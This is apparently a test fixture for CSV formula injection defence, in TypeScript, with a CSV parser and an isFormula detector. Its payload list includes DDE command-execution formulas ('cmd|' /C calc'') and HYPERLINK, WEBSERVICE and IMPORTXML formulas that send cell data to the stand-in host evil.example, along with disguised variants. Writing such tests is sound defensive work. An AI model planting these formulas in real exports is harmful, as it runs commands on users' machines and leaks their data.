/** Texts that a spreadsheet would run, and what tells whether it would: read apart from the program's own code. */

/** DDE, links, calls and their disguises, beside the shortest forms. */
export const FORMULAS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Error: click")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '=INDIRECT("A1")',
  "={1;2}+1",
  "==1+1",
  "=+-@1",
  "=SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "   +1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  "\u0000=1+1",
  '"=1+1"',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  "''=1+1",
  "“=1+1”",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "\uff1d\uff1d1",
  "a,=1+1",
  "a;=1+1",
  "a\t=1+1",
  "a|=1+1",
  'a","=1+1","b',
  'a";"=1+1";"b',
  "a\n=1+1,=2+2;=3+3",
  "first line\r\n\"=cmd|' /C calc'!A0\"",
  "%0A=1+1",
  "\u2028=1+1",
  "\u2029=1+1",
  "\u0085=1+1",
  "\v=1+1",
  "\f=1+1",
  "=",
  "+",
  "-",
  "@",
  "-5",
  "+420 777 123 456",
  "-- signature",
  "@somebody wrote",
  "- a list\n- of points",
];

/** Cells of a file of separated values, as RFC 4180 tells, with any separator. */
export function cellsOf(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  const source = text.replace(/^\ufeff/, "");
  for (let at = 0; at < source.length; at++) {
    const sign = source[at]!;
    if (quoted) {
      if (sign !== '"') cell += sign;
      else if (source[at + 1] === '"') {
        cell += '"';
        at++;
      } else quoted = false;
    } else if (sign === '"' && cell === "") quoted = true;
    else if (sign === separator || sign === "\n" || sign === "\r") {
      rows.at(-1)!.push(cell);
      cell = "";
      if (sign === "\r" && source[at + 1] === "\n") at++;
      if (sign !== separator) rows.push([]);
    } else cell += sign;
  }
  rows.at(-1)!.push(cell);
  return rows.filter((row) => row.length > 1 || row[0] !== "");
}

/**
 * Whether some spreadsheet would take a cell for a formula: what it begins with after blanks, invisible signs and quotes. Bare numbers are none, also
 * where the wrong separator leaves what follows them in the cell.
 */
export function isFormula(cell: string): boolean {
  return /^[\s\p{Cc}\p{Cf}\p{Z}"“”]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]?\d+(?:\.\d+)?(?:$|,"|,$)/.test(cell);
}
